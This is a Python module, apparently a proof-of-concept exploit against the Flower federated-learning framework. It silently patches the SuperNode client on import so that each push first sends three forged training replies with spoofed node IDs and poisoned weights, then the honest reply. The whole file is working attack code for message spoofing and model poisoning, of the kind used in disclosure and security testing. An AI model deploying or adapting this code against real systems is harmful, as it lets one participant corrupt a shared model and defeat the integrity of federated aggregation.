"""A member whose SuperNode stuffs the ballot before it sends its own, honest reply.

Python imports this module when the folder is on PYTHONPATH. The SuperLink stores a message from
node 1 to node 1 as an instruction for the ServerApp and hands it out with the next replies.
"""

import sys
import time

INVENTED = 3
POISON = 1e6

if any(word.endswith("flower-supernode") for word in sys.orig_argv):
    import numpy as np
    from flwr.app import ArrayRecord, Metadata, MetricRecord, RecordDict
    from flwr.app.message import make_message, remove_content_from_message
    from flwr.common.serde import message_to_proto
    from flwr.proto.fleet_pb2 import PushMessagesRequest, PushMessagesResponse
    from flwr.proto.message_pb2 import PushObjectRequest
    from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree
    from flwr.supernode.fleet_http_client import FleetHttpClient

    honest = FleetHttpClient.PushMessages

    def stuff(client: FleetHttpClient, request: PushMessagesRequest, number: int) -> None:
        """Push one invented reply: node 1 to node 1 outside, from node 1000 and up inside."""
        run_id = request.messages_list[0].metadata.run_id
        inside = Metadata(
            run_id=run_id,
            message_id="",
            src_node_id=1000 + number,
            dst_node_id=1,
            reply_to_message_id="",
            group_id="",
            created_at=time.time(),
            ttl=600.0,
            message_type="train",
        )
        arrays = ArrayRecord([np.full(4, POISON, np.float32)])
        metrics = MetricRecord({"num-examples": 1})
        message = make_message(inside, RecordDict({"arrays": arrays, "metrics": metrics}))
        objects = get_all_nested_objects(message)
        outside = message_to_proto(remove_content_from_message(message))
        outside.metadata.message_id = message.object_id
        outside.metadata.src_node_id = 1
        answer = honest(
            client,
            PushMessagesRequest(
                node=request.node,
                messages_list=[outside],
                message_object_trees=[get_object_tree(message)],
            ),
        )
        for object_id in answer.objects_to_push:
            client.PushObject(
                PushObjectRequest(
                    node=request.node,
                    run_id=run_id,
                    session_id=answer.session_id,
                    object_id=object_id,
                    object_content=objects[object_id].deflate(),
                )
            )

    def push(self: FleetHttpClient, request: PushMessagesRequest) -> PushMessagesResponse:
        for number in range(INVENTED):
            stuff(self, request, number)
        return honest(self, request)

    FleetHttpClient.PushMessages = push  # type: ignore[method-assign]  # that is the attack
